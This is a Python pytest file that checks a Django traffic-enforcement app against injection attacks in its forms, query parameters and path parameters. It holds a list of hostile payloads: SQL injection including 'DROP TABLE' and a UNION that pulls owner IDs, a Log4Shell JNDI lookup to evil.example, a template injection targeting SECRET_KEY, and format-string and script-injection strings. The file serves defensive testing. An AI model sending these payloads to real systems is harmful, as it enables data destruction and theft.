"""Injection: SQL metacharacters, NUL bytes, template and log-format
sequences and very long strings in every form field, query parameter and
path parameter. Each answer is a 4xx or the normal answer to a wrong value
(the same status as an innocent wrong value), never a 5xx, never more rows,
never an access granted, and the typed text never comes back unescaped."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import pytest
from django.apps import apps
from django.test import Client

import cakra.backoffice.views.login as login_views
from cakra.security.ratelimit import Limit
from tests.factories import ApiKeyFactory
from tests.security.attack_world import api_operations, english_client, region_objects, sign_in, visit

PAYLOADS = [
    "' OR '1'='1",
    "1' OR 1=1 --",
    "'; DROP TABLE enforcement_violation; --",
    '" OR ""="',
    "%' OR plate LIKE '%",
    "1 UNION SELECT name, nik FROM registry_owner --",
    "abc\x00def",
    "\x00",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "%s%s%s%n",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "\u202e\ufeff\u0000",
    "A" * 100_000,
]
# Rows whose number may legitimately move during these requests: the audit
# trail of refused sign-ins. (No payload may open a session: a session row of
# either realm, ``security.session``, is counted like any other.)
MAY_GROW = {"audit.auditevent"}


def _row_counts() -> dict[str, int]:
    return {
        model._meta.label_lower: model._default_manager.count()
        for model in apps.get_models()
        if model._meta.label_lower not in MAY_GROW and model._meta.managed
    }


@pytest.fixture
def own(region, settings, monkeypatch, clock):
    # The clock stands still: a sweep takes seconds, and a fixed window's
    # boundary crossed meanwhile adds a counter row the row counts would see.
    # Limits far above what the sweep sends: it probes parsing, not throttling.
    settings.CAKRA_PORTAL_RATE_LIMITS = {
        name: (10**6, seconds) for name, (_n, seconds) in settings.CAKRA_PORTAL_RATE_LIMITS.items()
    }
    # The account views share the sign-in limit through the login views' check.
    sweep_limit = Limit(scope="backoffice-login-sweep", count=10**6, seconds=60)
    monkeypatch.setattr(login_views, "LOGIN_RATE_LIMIT", sweep_limit)
    settings.CAKRA_SIGN_IN_THROTTLE = {
        **settings.CAKRA_SIGN_IN_THROTTLE,
        "CLIENT_FAILURES": 10**6,
        "ACCOUNT_FAILURES": 10**6,
    }
    return region_objects(region, plate_prefix="B", tag="SQL")


def _sweep(send: Callable[[str], Any], innocent: str) -> None:
    """Send the innocent wrong value, then every payload, in the same place;
    each payload must be answered like the innocent value and store nothing."""
    baseline = send(innocent)
    # A throttled baseline would let every payload pass as "the same answer"
    # without its text ever being parsed.
    assert baseline.status_code != 429, "the sweep hit a rate limit: raise it in the fixture"
    before = _row_counts()
    for text in PAYLOADS:
        response = send(text)
        assert response.status_code < 500, (text[:40], response.status_code)
        assert response.status_code in {baseline.status_code, 400, 413, 414, 422}, (text[:40], response.status_code)
        assert "<script>alert(1)</script>" not in response.content_bytes.decode(errors="replace")
    assert _row_counts() == before


def test_portal_lookup_fields_and_link_parameter(own):
    number = own.notice.number

    def lookup(field: str, other: dict[str, str]) -> Callable[[str], Any]:
        return lambda text: visit(english_client(), "post", "/cek/", {**other, field: text})

    # A real number with an injected plate must never open the notice.
    _sweep(lookup("plate", {"number": number}), innocent="B 9999 ZZZ")
    _sweep(lookup("number", {"plate": own.vehicle.plate}), innocent="1234567890123456")
    _sweep(lambda text: visit(english_client(), "get", "/cek/", {"n": text}), innocent="1234")
    for text in PAYLOADS:
        answer = visit(english_client(), "post", "/cek/", {"number": number, "plate": text})
        assert answer.status_code != 303, text[:40]


def test_back_office_sign_in_fields_and_next(own):
    def sign_in_with(**fields: str | None) -> Callable[[str], Any]:
        def send(text: str) -> Any:
            form = {"username": "no-such-officer", "password": "wrong password 1", "next": ""}
            form.update({name: text if value is None else value for name, value in fields.items()})
            return visit(english_client(), "post", "/backoffice/login/", form)

        return send

    _sweep(sign_in_with(username=None), innocent="nobody")
    _sweep(sign_in_with(password=None), innocent="not the password")
    _sweep(sign_in_with(next=None), innocent="/backoffice/")
    _sweep(lambda text: visit(english_client(), "get", "/backoffice/login/", {"next": text}), innocent="/backoffice/")
    # An injected username never signs anyone in.
    for text in PAYLOADS:
        assert (
            visit(english_client(), "post", "/backoffice/login/", {"username": text, "password": text}).status_code
            != 302
        )


def test_back_office_query_parameters_and_decision_text(own):
    officer = sign_in(english_client(), own.validator)

    _sweep(lambda text: visit(officer, "get", "/backoffice/", {"page": text}), innocent="999")
    url = f"/backoffice/violations/{own.waiting.pk}/reject/"

    # Text a form cannot hold (NUL bytes, beyond the length cap) is a 400 that decides nothing.
    for text in ("abc\x00def", "\x00", "A" * 100_000):
        assert visit(officer, "post", url, {"reason": text}).status_code == 400
    own.waiting.refresh_from_db()
    assert own.waiting.status == "received"
    # The reason is the officer's own words: a payload is stored as typed, never run.
    injected = "Plat palsu'; DROP TABLE enforcement_violation; --"
    assert visit(officer, "post", url, {"reason": injected}).status_code == 302
    own.waiting.refresh_from_db()
    assert (own.waiting.status, own.waiting.rejection_reason) == ("rejected", injected)


def test_back_office_account_forms_and_next(own):
    officer = sign_in(english_client(), own.admin)
    state = (own.admin.password, own.admin.is_active)

    _sweep(lambda text: visit(officer, "get", "/backoffice/account/reauth/", {"next": text}), innocent="/backoffice/")
    _sweep(
        lambda text: visit(officer, "post", "/backoffice/account/reauth/", {"token": text, "next": "/backoffice/"}),
        innocent="000000",
    )
    _sweep(
        lambda text: visit(officer, "post", "/backoffice/account/reauth/", {"token": "000000", "next": text}),
        innocent="/backoffice/",
    )
    for field in ("current_password", "new_password1", "new_password2"):

        def change(text: str, field: str = field) -> Any:
            form = {"current_password": "not the password", "new_password1": "x", "new_password2": "y"}
            return visit(officer, "post", "/backoffice/account/password/", {**form, field: text})

        _sweep(change, innocent="not the password")
    own.admin.refresh_from_db()
    assert (own.admin.password, own.admin.is_active) == state


@pytest.mark.parametrize(
    "path",
    [
        "/backoffice/notices/{}/",
        "/backoffice/violations/{}/",
        "/backoffice/evidence/{}/",
        "/notice/{}/",
    ],
)
def test_path_parameters(own, path):
    officer = sign_in(english_client(), own.validator)

    def send(text: str) -> Any:
        return visit(officer, "get", path.format(_quoted(text)))

    _sweep(send, innocent="1234567890123456")


@pytest.mark.parametrize("operation", [op for op in api_operations() if op.authenticated and op.parameters], ids=str)
def test_api_path_parameters(own, operation):
    _key, token = ApiKeyFactory.with_token(region=own.region)
    client = Client(HTTP_AUTHORIZATION=f"Bearer {token}")

    def send(text: str) -> Any:
        path = operation.path
        for name in operation.parameters:
            path = path.replace("{" + name + "}", _quoted(text))
        return visit(client, operation.method, path)

    _sweep(send, innocent="00000000-0000-0000-0000-000000000000")


def _quoted(text: str) -> str:
    return quote(text, safe="")
